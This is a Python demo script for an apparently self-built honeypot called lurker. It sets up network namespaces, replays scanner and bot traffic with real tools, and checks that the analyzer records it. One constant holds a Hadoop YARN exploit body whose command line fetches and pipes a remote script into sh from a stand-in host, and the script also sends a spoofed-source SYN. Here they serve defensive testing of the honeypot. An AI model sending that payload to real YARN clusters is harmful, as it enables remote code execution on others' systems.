#!/usr/bin/env python3
"""lurker's demo: the whole honeypot on one machine, caught traffic from real tools, analysed at the end.

    make demo                 # or: python3 demo/demo.py [--keep] [--json FILE] [--flow-timeout S]

It creates two network namespaces joined by a veth pair (a sensor at 203.0.113.10 / 2001:db8:5::10 and scanners
in 198.51.100.0/24 / 2001:db8:a::/64), runs lurker-responder, -capturer and -shipper under supervisord in the
sensor namespace with `storage: local`, plays scanner and bot traffic with real tools, shows `lurker-ctl status`,
waits for the flows to go quiet, runs lurker-analyzer over the archive, and tears everything down (also on
Ctrl-C). Needs root (namespaces, raw sockets). Traffic never leaves the two namespaces.
"""
import argparse
import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(HERE)
sys.path.insert(0, os.path.join(ROOT, "tests", "lib"))
import lurkertest as lt  # noqa: E402

BIN = os.environ.get("BIN") or os.path.join(ROOT, "bin")
SSH_PORT = 2222
SSH_BANNER = "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\\r\\n"
SPOOFED_SOURCE = "198.51.100.77"
SPOOFED_PORT = 8081

YARN_EXPLOIT = (
    '{"application-id":"application_1700000000000_0001","application-name":"get-shell",'
    '"am-container-spec":{"commands":{"command":"wget -qO- http://198.51.100.66/x.sh | sh"}},'
    '"application-type":"YARN"}'
)

# What the demo plays, and what the analyzer must then report. (proto, dst_port, service or None, handshake)
EXPECTED = [
    ("tcp", SSH_PORT, "ssh", True),
    ("tcp", 8088, "http", True),
    ("tcp", 6379, "redis", True),
    ("tcp", 443, "tls", True),
    ("udp", 53, "dns", None),
    ("tcp", SPOOFED_PORT, None, False),
]


def say(text):
    print("\033[1m==> %s\033[0m" % text if sys.stdout.isatty() else "==> %s" % text, flush=True)


class Demo:
    def __init__(self, args):
        self.args = args
        self.topo = lt.Topology(tag="demo%s" % os.urandom(1).hex())
        self.procs = lt.Processes()
        self.work = tempfile.mkdtemp(prefix="lurker-demo-")
        self.shm = "/lurker-demo-%d" % os.getpid()
        self.spool = os.path.join(self.work, "spool")
        self.archive = os.path.join(self.work, "archive")
        self.config = os.path.join(self.work, "lurker.yaml")
        self.supervisor = None

    # ---- set-up ---------------------------------------------------------------------------------------------
    def write_config(self):
        os.makedirs(self.spool)
        os.makedirs(self.archive)
        extra = """queue_slots: 1024
responder:
  firewall: output
  banners:
    - port: %d
      text: "%s"
capturer:
  flow_timeout: %ds
  max_flow_age: 5m
  buffer_size: 8MiB
  memory_limit: 64MiB
shipper:
  storage: local
  archive_dir: %s
""" % (SSH_PORT, SSH_BANNER, self.args.flow_timeout, self.archive)
        lt.write_config(self.config, self.shm, self.spool, self.topo.s_if,
                        addresses=(lt.SENSOR_V4, lt.SENSOR_V6), extra=extra)
        check = subprocess.run([os.path.join(BIN, "lurker-responder"), "-c", self.config, "--check"],
                               capture_output=True, text=True)
        if check.returncode != 0:
            raise SystemExit("demo config rejected: %s" % check.stderr.strip())

    def start(self):
        say("creating namespaces: sensor %s (%s), attacker %s (%s)" % (
            self.topo.sensor, lt.SENSOR_V4, self.topo.attacker, lt.ATTACKER_V4))
        self.topo.up()
        self.write_config()
        say("starting responder, capturer and shipper under supervisord in %s" % self.topo.sensor)
        self.supervisor = lt.Supervisor(self.topo, self.procs, self.config, self.work)
        self.supervisor.start()
        # the capturer's handle must be live before traffic starts
        lt.wait_for(lambda: self.ctl_json().get("healthy"), timeout=20, what="lurker-ctl to report healthy")

    def ctl_json(self):
        r = subprocess.run([os.path.join(BIN, "lurker-ctl"), "--shm", self.shm, "status", "--json"],
                           capture_output=True, text=True)
        try:
            return json.loads(r.stdout)
        except ValueError:
            return {}

    # ---- traffic --------------------------------------------------------------------------------------------
    def attacker(self, argv, timeout=30, input=None):
        """Runs a client in the attacker namespace. Clients that wait for a server answer that never comes (ssh
        after its key exchange, curl after its request) are stopped at `timeout`: that is how a honeypot ends.
        lurker acknowledges their data and answers their FIN, so nothing is retransmitted after they are gone."""
        try:
            return subprocess.run(self.topo.in_ns(self.topo.attacker, argv), capture_output=True, text=True,
                                  timeout=timeout, input=input)
        except subprocess.TimeoutExpired as e:
            return subprocess.CompletedProcess(e.cmd, -9, e.stdout or "", e.stderr or "")

    def play(self):
        target = lt.SENSOR_V4
        say("nmap -sS: SYN scan of 1000 common ports")
        r = self.attacker(["nmap", "-n", "-Pn", "-sS", "--top-ports", "1000", "--max-retries", "1", target], 120)
        open_lines = [l for l in r.stdout.splitlines() if "open" in l]
        print("    nmap: %s" % next((l for l in r.stdout.splitlines() if "Not shown" in l),
                                  "%d open lines" % len(open_lines)))
        say("masscan: ports 10000-10099 at 2000 packets/s")
        r = self.attacker(["masscan", target, "-p10000-10099", "--rate", "2000", "--wait", "2",
                           "--adapter-ip", lt.ATTACKER_V4, "--router-ip", lt.SENSOR_V4], 60)
        print("    masscan: %d ports reported open" % r.stdout.count("Discovered open port"))
        say("ssh to port %d (lurker sends the SSH banner, the client answers with its key exchange)" % SSH_PORT)
        r = self.attacker(["ssh", "-p", str(SSH_PORT), "-o", "BatchMode=yes", "-o", "ConnectTimeout=5",
                           "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
                           "root@" + target], 4)
        say("HTTP POST like the Hadoop YARN ResourceManager exploit, port 8088")
        self.attacker(["curl", "-s", "-m", "3", "-X", "POST", "-H", "Content-Type: application/json",
                       "-A", "python-requests/2.31.0", "--data", YARN_EXPLOIT,
                       "http://%s:8088/ws/v1/cluster/apps" % target], 10)
        say("Redis command on port 6379")
        self.attacker(["bash", "-c", "printf '*2\\r\\n$4\\r\\nINFO\\r\\n$6\\r\\nserver\\r\\n' | nc -q 2 -w 3 %s 6379"
                       % target], 10)
        say("TLS ClientHello with SNI on port 443")
        self.attacker(["openssl", "s_client", "-connect", "%s:443" % target, "-servername", "intranet.example.com",
                       "-alpn", "h2,http/1.1"], 10, input="")
        say("DNS query over UDP port 53")
        self.attacker(["dig", "+tries=1", "+time=2", "@" + target, "version.bind", "TXT", "CH"], 10)
        say("IPv6: HTTP GET to [%s]:8080" % lt.SENSOR_V6)
        self.attacker(["curl", "-s", "-m", "3", "-g", "http://[%s]:8080/" % lt.SENSOR_V6], 10)
        say("a SYN from a spoofed source (%s) that never completes the handshake" % SPOOFED_SOURCE)
        self.attacker(["hping3", "-c", "1", "-S", "-p", str(SPOOFED_PORT), "-a", SPOOFED_SOURCE, target], 10)

    # ---- results --------------------------------------------------------------------------------------------
    def show_status(self):
        say("lurker-ctl status")
        r = subprocess.run([os.path.join(BIN, "lurker-ctl"), "--shm", self.shm, "status"], capture_output=True,
                           text=True)
        print(r.stdout)

    def wait_for_flows(self):
        wait = self.args.flow_timeout + 2
        say("waiting for the flows to go quiet (flow_timeout %ds) and reach the archive" % self.args.flow_timeout)

        def settled():
            c = self.ctl_json().get("counters", {})
            return (c.get("flows_open", 1) == 0 and c.get("flows_written", 0) > 0
                    and c.get("uploaded", 0) >= c.get("flows_written", 0))
        time.sleep(wait)
        lt.wait_for(settled, timeout=60, interval=0.5, what="every flow written and archived")

    def analyze(self):
        pcaps = []
        for d, _, files in os.walk(self.archive):
            pcaps += [os.path.join(d, f) for f in files if f.endswith(".pcap")]
        say("%d pcaps in the archive %s; lurker-analyzer:" % (len(pcaps), self.archive))
        r = subprocess.run([os.path.join(BIN, "lurker-analyzer"), "--sensor", "demo", self.archive],
                           capture_output=True, text=True, timeout=120)
        if r.returncode != 0:
            raise SystemExit("lurker-analyzer failed: %s" % r.stderr)
        records = [json.loads(line) for line in r.stdout.splitlines() if line.strip()]
        interesting = [x for x in records if x.get("payload") or not x.get("handshake", True)]
        for rec in interesting:
            print(json.dumps(rec, sort_keys=True))
        say("summary")
        s = subprocess.run([os.path.join(BIN, "lurker-analyzer"), "--summary", self.archive], capture_output=True,
                           text=True, timeout=120)
        print(s.stdout)
        return records

    def check(self, records):
        problems = []
        for proto, port, service, handshake in EXPECTED:
            hits = [x for x in records if x.get("proto") == proto and x.get("dst_port") == port]
            if not hits:
                problems.append("no %s record for port %d" % (proto, port))
                continue
            if service and not any(x.get("service") == service for x in hits):
                problems.append("port %d: service %s not recognised (got %s)" % (
                    port, service, sorted({str(x.get("service")) for x in hits})))
            if handshake is not None and not any(x.get("handshake") == handshake for x in hits):
                problems.append("port %d: no record with handshake=%s" % (port, handshake))
        if not any(x.get("src_addr") == SPOOFED_SOURCE for x in records):
            problems.append("the spoofed source %s is missing" % SPOOFED_SOURCE)
        if not any(":" in str(x.get("src_addr")) for x in records):
            problems.append("no IPv6 flow recorded")
        return problems

    # ---- tear-down ------------------------------------------------------------------------------------------
    def stop(self):
        if self.supervisor is not None:
            self.supervisor.stop()
        self.procs.stop_all()
        self.topo.down()
        lt.remove_shm(self.shm)
        if not self.args.keep_files:
            shutil.rmtree(self.work, ignore_errors=True)


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--keep", action="store_true", help="keep the honeypot running for interactive use (Ctrl-C ends)")
    ap.add_argument("--keep-files", action="store_true", help="leave the work directory (config, logs, archive)")
    ap.add_argument("--flow-timeout", type=int, default=5, help="seconds of quiet before a flow is written")
    ap.add_argument("--json", metavar="FILE", help="also write the analyzer's records to FILE")
    args = ap.parse_args()
    if os.geteuid() != 0:
        raise SystemExit("the demo needs root (network namespaces, raw sockets): run it with sudo")
    for b in ("lurker-responder", "lurker-capturer", "lurker-shipper", "lurker-analyzer", "lurker-ctl"):
        if not os.access(os.path.join(BIN, b), os.X_OK):
            raise SystemExit("%s/%s is missing: run make first" % (BIN, b))

    demo = Demo(args)
    # Ctrl-C and SIGTERM unwind through finally, so nothing is left behind.
    signal.signal(signal.SIGTERM, lambda *_: (_ for _ in ()).throw(KeyboardInterrupt()))
    status = 0
    try:
        demo.start()
        demo.play()
        demo.show_status()
        if args.keep:
            say("lurker is running. Reach it from the attacker namespace, e.g.:")
            print("    ip netns exec %s curl http://%s:8080/" % (demo.topo.attacker, lt.SENSOR_V4))
            print("    ip netns exec %s nmap -sS -p 1-1000 %s" % (demo.topo.attacker, lt.SENSOR_V4))
            print("    %s/lurker-ctl --shm %s status" % (BIN, demo.shm))
            print("    archive: %s   logs: %s" % (demo.archive, demo.supervisor.logs))
            print("Ctrl-C stops it and runs the analysis.")
            try:
                while True:
                    time.sleep(3600)
            except KeyboardInterrupt:
                pass
        demo.wait_for_flows()
        records = demo.analyze()
        if args.json:
            with open(args.json, "w") as f:
                for rec in records:
                    f.write(json.dumps(rec) + "\n")
        problems = demo.check(records)
        if problems:
            say("the demo did not see everything it played:")
            for p in problems:
                print("    - " + p)
            status = 1
        else:
            say("every kind of traffic played was caught and recognised (%d flows)" % len(records))
    except KeyboardInterrupt:
        say("interrupted")
        status = 130
    finally:
        say("tearing down")
        demo.stop()
    return status


if __name__ == "__main__":
    sys.exit(main())
